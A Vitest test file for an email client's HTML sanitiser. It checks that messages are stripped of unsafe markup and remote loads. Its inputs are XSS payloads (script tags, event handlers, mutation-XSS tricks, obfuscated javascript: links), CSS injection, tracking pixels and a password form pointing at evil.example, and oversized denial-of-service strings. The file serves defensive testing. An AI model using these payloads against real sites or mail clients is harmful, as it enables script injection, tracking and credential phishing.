import { expect, test } from 'vitest'
import { hidesRemote, safeHtml } from '../../../server/mail/message/safe-html.ts'

const shown = (html: string) => safeHtml(html, { remote: false })

test.each([
  ['<script>alert(1)</script>Hi', 'Hi'],
  ['<scr<script>ipt>alert(1)</script>Hi', 'ipt&gt;alert(1)Hi'],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>Hi', 'Hi'],
  ['<style>@import url(//evil.example/x.css);</style>Hi', 'Hi'],
  ['<svg onload=alert(1)><script>alert(1)</script></svg>Hi', 'Hi'],
  ['<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></math>Hi', 'Hi'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">Hi</noscript>', ''],
  ['<iframe src="//evil.example"></iframe>Hi', 'Hi'],
  ['<object data=x></object><embed src=x>Hi', 'Hi'],
  ['<form action="//evil.example"><input name=password><button>Send</button></form>', 'Send'],
  ['<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example">Hi', 'Hi'],
  ['<link rel=stylesheet href="//evil.example/x.css">Hi', 'Hi'],
  ['<p onclick="alert(1)" id=x class=modal name=y>Hi</p>', '<p>Hi</p>'],
  ['<!--[if mso]><p>Hidden</p><![endif]-->Hi', 'Hi'],
  ['<template><p>Hidden</p></template>Hi', 'Hi'],
])('of %s there is shown %s', (html, safe) => {
  const words = shown(html)

  expect(words).not.toMatch(/<script|<style|on\w+=|evil\.example/i)
  expect(words.trim()).toBe(safe)
})

test.each([
  ['javascript:alert(1)'],
  ['JaVaScRiPt:alert(1)'],
  ['java\tscript:alert(1)'],
  ['&#106;avascript:alert(1)'],
  ['\u0001javascript:alert(1)'],
  ['data:text/html,<script>alert(1)</script>'],
  ['vbscript:x'],
  ['file:///etc/passwd'],
  ['//evil.example'],
])('a link to %s leads nowhere', (href) => {
  expect(shown(`<a href="${href}">Click</a>`)).toBe('<a target="_blank" rel="noopener noreferrer nofollow">Click</a>')
})

test('a link to the web opens apart and tells nobody where from', () => {
  expect(shown('<a href="https://harbor.example/x" target=_top rel=opener>Report</a>')).toBe(
    '<a target="_blank" rel="noopener noreferrer nofollow" href="https://harbor.example/x">Report</a>',
  )
})

test.each([
  ['background:url(https://evil.example/p.gif)'],
  ['background-image:url(//evil.example)'],
  ['color:expression(alert(1))'],
  ['position:fixed;top:0;left:0'],
  ['color:red\\3b background\\3aurl(x)'],
  ['width:calc(100% + url(x))'],
  ['font-family:"}</style><script>alert(1)</script>'],
  ['list-style-type:url(//evil.example)'],
  ['height:100vh'],
  ['padding:4px 50DVH'],
])('the style %s is left out', (style) => {
  expect(shown(`<p style='${style}'>Hi</p>`)).toBe('<p>Hi</p>')
})

test('how words are set is kept', () => {
  const html =
    '<p style="color:#333;font-size:14px;text-align:center">Hi <b>Ines</b></p><table border="1"><tbody><tr><td colspan="2">1</td></tr></tbody></table>'

  expect(shown(html)).toBe(html)
})

test('pictures from elsewhere wait for a click', () => {
  const html = '<img src="https://evil.example/pixel.gif?ines" alt="Logo" srcset="https://evil.example/2x.gif 2x">'

  expect(shown(html)).toBe('<span class="remote-image">Logo</span>')
  expect(hidesRemote(shown(html))).toBe(true)
  expect(safeHtml(html, { remote: true })).toBe('<img alt="Logo" src="https://evil.example/pixel.gif?ines" />')
})

test.each([
  ['<body background="https://evil.example/b.gif">Hi'],
  ['<table background="https://evil.example/b.gif"><tr><td>Hi'],
  ['<video poster="https://evil.example/b.gif" src="x">Hi</video>'],
  ['<audio src="https://evil.example/b.mp3">Hi'],
  ['<input type=image src="https://evil.example/b.gif">Hi'],
])('even with remote content %s loads nothing', (html) => {
  expect(safeHtml(html, { remote: true })).not.toContain('evil.example')
})

test('pictures of the message are shown where their address is known, and left out elsewhere', () => {
  const html = '<img src="cid:0" alt="Chart"><img src="cid:unknown"><img src="cid:0/../1">'
  const attachment = (part: number) => `/mail/7/parts/${part}`

  expect(safeHtml(html, { remote: false, attachment })).toBe(
    '<img alt="Chart" src="/mail/7/parts/0" /><span></span><span></span>',
  )
  expect(shown(html)).toBe('<span>Chart</span><span></span><span></span>')
})

test.each([
  ['data:image/png;base64,iVBORw0KGgo=', true],
  ['data:image/svg+xml;base64,PHN2Zz4=', false],
  ['data:text/html;base64,PHN2Zz4=', false],
  ['javascript:alert(1)', false],
  ['/api/users', false],
  ['ftp://evil.example/x.png', false],
])('a picture written as %s is shown: %s', (src, isShown) => {
  expect(shown(`<img src="${src}">`).includes('<img')).toBe(isShown)
})

test('what is safe stays as it is when made safe again', () => {
  const once = shown(
    '<p style="color:red">A &lt;script&gt; &amp; <a href="https://x.example/?a=1&amp;b=2">b</a><img src="https://e.example/x"></p>',
  )

  expect(shown(once)).toBe(once)
})

test.each([
  ['tags that never end', '<div>'.repeat(300_000)],
  ['tables within tables', '<table><tr><td>'.repeat(100_000)],
  ['a tag of nothing but attributes', `<a ${'a=b '.repeat(500_000)}`],
  ['comments that never end', '<!--'.repeat(500_000)],
  ['brackets', '<'.repeat(500_000)],
  ['entities', '&#x'.repeat(500_000)],
])(
  '%s are done with',
  (_, html) => {
    expect(shown(html).length).toBeLessThan(5_000_000)
  },
  30_000,
)
